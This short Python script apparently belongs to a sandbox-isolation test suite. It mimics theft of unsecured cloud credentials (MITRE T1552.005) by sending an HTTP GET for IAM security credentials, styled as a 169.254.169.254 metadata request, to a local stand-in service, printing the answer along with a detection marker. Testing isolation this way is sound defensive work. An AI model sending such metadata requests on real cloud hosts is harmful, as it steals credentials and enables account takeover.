# family: injection
# tries: ask a credential service on the host's loopback (as the cloud metadata service at 169.254.169.254 is asked; here the TCP port, argv 4) for credentials and print the answer
# source: https://attack.mitre.org/techniques/T1552/005/
# exfil: yes
# stopped-when: canary-unread
# attempted-when: marker
#
# Needs nothing from the file system: only the network reaches this
# secret, which is why file-system isolation alone does not stop it. It
# succeeds when the service answers an HTTP GET with a secret.
import socket
import sys

if len(sys.argv) < 9:
    sys.exit("usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES")
print(f"ATTEMPTED {sys.argv[1]}", file=sys.stderr, flush=True)
port = int(sys.argv[4])
req = (b"GET /latest/meta-data/iam/security-credentials/default HTTP/1.0\r\n"
       b"Host: 169.254.169.254\r\n\r\n")
try:
    with socket.create_connection(("127.0.0.1", port), timeout=3) as s:
        s.sendall(req)
        answer = b""
        while len(answer) < 1 << 16:
            chunk = s.recv(4096)
            if not chunk:
                break
            answer += chunk
    print(answer.decode(errors="replace"))
except OSError as e:
    print(f"metadata: {e}")
